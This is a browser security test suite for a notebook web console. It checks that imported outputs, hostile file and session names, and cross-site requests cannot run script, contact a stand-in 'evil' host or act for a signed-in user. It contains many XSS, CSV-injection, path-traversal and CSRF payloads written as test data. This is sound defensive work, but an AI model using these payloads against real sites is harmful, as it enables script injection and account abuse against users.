// SPDX-License-Identifier: Apache-2.0
// What a session, a file, a name or another site would do to a signed-in
// person, tried in a real browser. Each attack sets a mark or makes a request
// if it works; the positive controls show that the probes can work at all.
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { once } from 'node:events';
import { after, before, test } from 'node:test';
import { person, world } from '../lib/console.mjs';

// A second origin that records who comes and serves the attacker's page.
let evil;
const visits = [];
before(async () => {
  const server = createServer((request, response) => {
    visits.push(`${request.method} ${request.url}`);
    response.writeHead(200, { 'Content-Type': 'text/html', 'Access-Control-Allow-Origin': '*' });
    response.end('<!doctype html><title>evil</title><p>evil page</p>');
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  evil = { url: `http://localhost:${server.address().port}`, close: () => server.close() };
});
after(() => evil?.close());

const js = (what) => `top.__owned = '${what}'; parent.__owned = '${what}'; window.__owned = '${what}'; fetch('EVIL/${what}')`;
const fill = (text) => text.replaceAll('EVIL', evil.url);

// Has anything run as the console, or left the browser?
async function untouched(page, ...all) {
  await page.waitForTimeout(700);
  for (const what of all) {
    assert.equal(await page.evaluate(() => window.__owned ?? null), null, `${what}: ran as the console`);
    const out = visits.filter((v) => v.includes(what));
    assert.deepEqual(out, [], `${what}: reached another host`);
    assert.ok(page.url().includes('#/'), `${what}: the page went to ${page.url()}`);
  }
}

async function open(who, cells, name = 'Attacks') {
  const ws = await who.api('POST', '/api/workspaces', { name });
  await who.api('PUT', `/api/workspaces/${ws.id}/files/notebook.ipynb`, JSON.stringify({ nbformat: 4, nbformat_minor: 5, metadata: {}, cells }), { raw: true });
  const page = await who.open(`#/notebook/${ws.id}`);
  await page.locator('.cell').first().waitFor();
  return { page, ws };
}
const output = (data) => ({ cell_type: 'code', id: `o${Math.random().toString(36).slice(2)}`, metadata: {}, source: '1', execution_count: 1, outputs: [{ output_type: 'display_data', metadata: {}, data }] });

test('U1: HTML, SVG, plotly, JavaScript and Markdown of an imported notebook run nothing as the console', async () => {
  const who = await person({ name: 'Target' });
  const { page } = await open(who, [
    output({ 'text/html': fill(`<script>document.body.append('html script ran'); try { ${js('html')} } catch (e) {}</script><img src=x onerror="${js('html-img').replaceAll("'", '&#39;')}"><form action="EVIL/html-form"><button>x</button></form>`) }),
    output({ 'text/html': fill('<script>try { top.location = "EVIL/html-top" } catch (e) {} try { location = "EVIL/html-self" } catch (e) {} window.open("EVIL/html-open")</script><a target=_top href="EVIL/html-link">go</a><meta http-equiv=refresh content="0;url=EVIL/html-refresh">') }),
    output({ 'text/html': fill('<script>document.title = [1].map(() => { try { return localStorage.length + document.cookie } catch (e) { return "no storage" } }); document.body.append(document.title + origin)</script>') }),
    output({ 'image/svg+xml': fill(`<svg xmlns="http://www.w3.org/2000/svg" onload="${js('svg').replaceAll("'", '&#39;')}"><script>${js('svg-script')}</script><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="EVIL/svg-frame"></iframe></foreignObject><image href="EVIL/svg-image"/><rect width="9" height="9"/></svg>`) }),
    output({ 'application/javascript': js('javascript'), 'text/plain': 'a script' }),
    output({ 'text/markdown': fill('<script>window.__owned="md"</script><img src=x onerror="window.__owned=1">\n\n[click](javascript:window.__owned=1) ![pic](EVIL/md-image) [d](data:text/html,<script>1</script>) <EVIL/auto>') }),
    output({ 'application/vnd.plotly.v1+json': { data: [{ type: 'bar', x: ['<img src=x onerror="top.__owned=1">'], y: [1] }], layout: { title: { text: `<a href="javascript:top.__owned=1">t</a>` }, images: [{ source: fill('EVIL/plotly') }] } } }),
    output({ 'text/html': `<table class="dataframe"><thead><tr><th></th><th>a</th></tr></thead><tbody><tr><th>0</th><td><img src=x onerror="window.__owned='table'">=cmd|calc</td></tr></tbody></table>` }),
    output({ 'text/plain': '\u001b]8;;javascript:window.__owned=1\u0007link\u001b]8;;\u0007 <b onclick=1>x</b>' }),
    { cell_type: 'markdown', id: 'm', metadata: { onload: 'x' }, source: fill('# <img src=x onerror="window.__owned=2">\n\n<iframe src="EVIL/cell-frame"></iframe>\n\n[x](  javascript:window.__owned=3 "t") <a href="javascript:window.__owned=4">y</a>') },
    { cell_type: 'code', id: '"><img src=x onerror=window.__owned=5>', metadata: {}, source: '</script><script>window.__owned=6</script>', execution_count: 1, outputs: [{ output_type: 'error', ename: '<img src=x onerror=window.__owned=7>', evalue: '<script>1</script>', traceback: ['<svg onload=window.__owned=8>'] }] },
  ]);
  // Positive control: scripts do run in their frames, so the probes are alive.
  await page.frameLocator('iframe').first().getByText('html script ran').waitFor();
  // Frames have an opaque origin without storage and cookie.
  await page.locator('.cell').nth(2).frameLocator('iframe').getByText('no storagenull').waitFor();
  for (const link of await page.locator('.cell a[href^="javascript"], .cell a[href^="data"]').all()) assert.fail(await link.evaluate((a) => a.outerHTML));
  await untouched(page, ...['html', 'svg', 'javascript', 'md', 'plotly', 'table', 'cell-frame', 'auto']);
  // The policy reports what it stopped; nothing else went wrong.
  assert.deepEqual(page.problems.filter((p) => p.startsWith('error:') && !/sandboxed|Blocked|SecurityError|permission|Permission/.test(p)), []);
  await who.close();
});

test('U1: live output of a session runs nothing as the console', async () => {
  const who = await person({ name: 'Target' });
  const { page } = await open(who, [{ cell_type: 'code', id: 'a', metadata: {}, execution_count: null, outputs: [], source: fill(`from IPython.display import HTML, SVG, Javascript, Markdown, display
display(HTML("""<script>document.body.append("live ran"); ${js('live')}</script>"""))
display(Javascript("window.__owned = 'live-js'"))
display(Markdown("<img src=x onerror='window.__owned=1'> [x](javascript:alert(1))"))
display({"text/html": "<img src='EVIL/live-img' onerror='top.__owned=1'>"}, raw=True)
print("<script>window.__owned = 'live-text'</script>")
raise ValueError("<img src=x onerror=window.__owned=1>")`) }]);
  await page.getByRole('button', { name: 'Run this cell' }).click();
  await page.getByText('ValueError').first().waitFor();
  await page.frameLocator('iframe').first().getByText('live ran').waitFor();
  await untouched(page, 'live');
  await who.close();
});

test('U1: hostile names are text wherever they are shown', async () => {
  const who = await person({ name: '<img src=x onerror="window.__owned=9">"\'><b>Mallory' });
  const names = ['<img src=x onerror=window.__owned=1>.csv', '"><svg onload=window.__owned=2>.txt', '\u202egnp.exe', 'مرحبا — نص.txt', '日本語 ファイル.md', "'; window.__owned=3; '.html", '..%2f..%2fetc.txt', '=HYPERLINK("x").csv'];
  const ws = await who.api('POST', '/api/workspaces', { name: '<script>window.__owned=4</script>\u202eevil' });
  for (const name of names) await who.api('PUT', `/api/workspaces/${ws.id}/files/${encodeURIComponent(name)}`, '=cmd|calc,<img src=x onerror=window.__owned=5>\n1,2\n', { raw: true });
  await who.api('PUT', `/api/workspaces/${ws.id}/files/page.html`, `<script>${fill(js('file'))}</script>`, { raw: true });
  await who.api('POST', '/api/sessions', { workspace: ws.id, name: '<img src=x onerror=window.__owned=6>' });
  const page = await who.open('#/notebook');
  await page.getByText('<script>window.__owned=4</script>').first().waitFor();
  for (const at of [`notebook/${ws.id}`, `files/${ws.id}`, ...names.map((n) => `files/${ws.id}/${encodeURIComponent(n)}`), `files/${ws.id}/page.html`, 'search?q=cmd', 'executions', 'people', 'audit', `notebook/${encodeURIComponent('<img src=x onerror=window.__owned=7>')}`, `${encodeURIComponent('<img src=x onerror=window.__owned=8>')}`]) {
    await page.goto(`/#/${at}`);
    await page.waitForTimeout(250);
    assert.equal(await page.evaluate(() => window.__owned ?? null), null, `${at}: ran as the console`);
  }
  await untouched(page, 'file');
  await who.close();
});

test('U2: another site can neither read nor act as a signed-in person, nor frame the console', async () => {
  const { url } = await world();
  const who = await person({ name: 'Target' });
  const mine = await who.open();
  await mine.getByRole('navigation', { name: 'Screens' }).waitFor();
  const before = (await who.api('GET', '/api/workspaces')).data.length;
  const page = await who.context.newPage();
  await page.goto(`${evil.url}/`);
  const tried = await page.evaluate(async (target) => {
    const attempt = async (options, at = '/api/workspaces') => {
      try {
        const r = await fetch(target + at, options);
        return r.type === 'opaque' ? 'opaque' : `read ${r.status}`;
      } catch {
        return 'refused';
      }
    };
    return {
      read: await attempt({ credentials: 'include' }),
      readHeader: await attempt({ credentials: 'include', headers: { 'X-Glovebox-Console': '1' } }),
      post: await attempt({ method: 'POST', mode: 'no-cors', credentials: 'include', headers: { 'Content-Type': 'text/plain' }, body: '{"name":"by evil"}' }),
      postHeader: await attempt({ method: 'POST', credentials: 'include', headers: { 'X-Glovebox-Console': '1' }, body: '{"name":"by evil"}' }),
      login: await attempt({ method: 'POST', mode: 'no-cors', credentials: 'include', body: '{"key":"x"}' }, '/api/console/login'),
      events: await attempt({ credentials: 'include' }, '/api/events'),
    };
  }, url);
  for (const [name, got] of Object.entries(tried)) assert.ok(got === 'refused' || got === 'opaque', `${name}: ${got}`);
  // A form cannot add the header.
  await page.setContent(`<form method="post" action="${url}/api/workspaces" enctype="text/plain"><input name='{"name":"by evil","x":"' value='"}'></form>`);
  await Promise.all([page.waitForURL(/api\/workspaces/), page.evaluate(() => document.forms[0].submit())]);
  assert.match(await page.locator('body').innerText(), /error/);
  assert.equal((await who.api('GET', '/api/workspaces')).data.length, before, 'a workspace was made by another site');
  // The console is in nobody's frame; neither is its frame page.
  await page.goto(`${evil.url}/`);
  for (const at of ['/', '/console/frame.html']) {
    const shown = await page.evaluate(async (src) => {
      const frame = document.createElement('iframe');
      frame.src = src;
      document.body.append(frame);
      await new Promise((done) => { frame.onload = done; setTimeout(done, 2000); });
      return frame.contentDocument === null && frame.contentWindow.length === 0;
    }, url + at);
    assert.ok(shown);
    const inner = page.frames().find((f) => f.url().startsWith(url) && f !== page.mainFrame());
    assert.ok(!inner || (await inner.evaluate(() => document.querySelector('#app') === null).catch(() => true)), `${at} was framed`);
  }
  // A link of another site to the console runs nothing and has no opener.
  const [popup] = await Promise.all([who.context.waitForEvent('page'), page.evaluate((target) => { window.w = window.open(`${target}/#/notebook`); }, url)]);
  await popup.waitForLoadState();
  assert.equal(await popup.evaluate(() => window.opener), null);
  // Positive control: from its own origin the same request works.
  const own = await mine.evaluate(async () => (await fetch('/api/workspaces', { headers: { 'X-Glovebox-Console': '1' } })).status);
  assert.equal(own, 200);
  const bare = await mine.evaluate(async () => (await fetch('/api/workspaces')).status);
  assert.ok(bare === 401 || bare === 403, `the cookie alone must not do: ${bare}`);
  await who.close();
});

test('U1: the page has a policy without inline script and eval, and the frame page an opaque origin', async () => {
  const { g } = await world();
  const page = await g.call('GET', '/', undefined, { key: null });
  const policy = page.headers.get('content-security-policy');
  assert.match(policy, /script-src 'self'(;|$)/);
  assert.doesNotMatch(policy, /unsafe|\*|https?:/);
  assert.match(policy, /frame-ancestors 'none'/);
  assert.doesNotMatch(page.text, /<script(?![^>]*src=)|<style|\son\w+=/);
  const frame = await g.call('GET', '/console/frame.html', undefined, { key: null });
  assert.match(frame.headers.get('content-security-policy'), /^sandbox allow-scripts;.*default-src 'none'/);
});
